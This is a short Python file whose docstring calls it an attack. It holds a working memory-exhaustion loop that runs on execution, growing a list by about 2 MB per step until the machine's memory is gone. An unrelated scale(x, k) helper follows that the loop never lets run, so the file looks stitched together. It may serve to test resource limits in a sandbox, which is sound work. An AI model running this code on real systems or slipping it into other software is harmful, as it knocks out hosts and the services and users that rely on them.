"""Attack: exhaust the machine's memory by growing a Python list of freshly written blocks."""
hog = []
while True:
    hog.append([len(hog)] * 250_000)  # ~2 MB of touched pointers per step


def scale(x, k):
    return x * k
